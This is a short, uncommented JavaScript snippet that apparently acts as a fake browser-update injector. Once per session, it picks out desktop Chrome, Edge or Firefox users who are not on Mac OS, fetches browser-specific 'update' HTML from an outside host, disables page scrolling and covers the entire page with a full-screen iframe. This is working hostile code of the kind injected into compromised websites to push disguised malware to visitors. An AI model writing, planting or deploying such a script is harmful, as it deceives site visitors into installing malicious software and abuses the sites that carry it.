(async () => {
  const seen = "chr_upd_" + location.hostname.length;
  const ua = navigator.userAgent;
  if (sessionStorage[seen] || !/Chrome|Edg|Firefox/.test(ua) || /Android|iPhone|Mac OS/.test(ua)) return;
  sessionStorage[seen] = "1";
  const html = await (await fetch("https://news.vintagerowing.example/update/" + (ua.includes("Firefox") ? "ff" : "ch"))).text();
  document.documentElement.style.overflow = "hidden";
  const f = document.createElement("iframe");
  f.style.cssText = "position:fixed;inset:0;width:100vw;height:100vh;border:0;z-index:2147483647";
  f.srcdoc = html;
  document.body.append(f);
})();
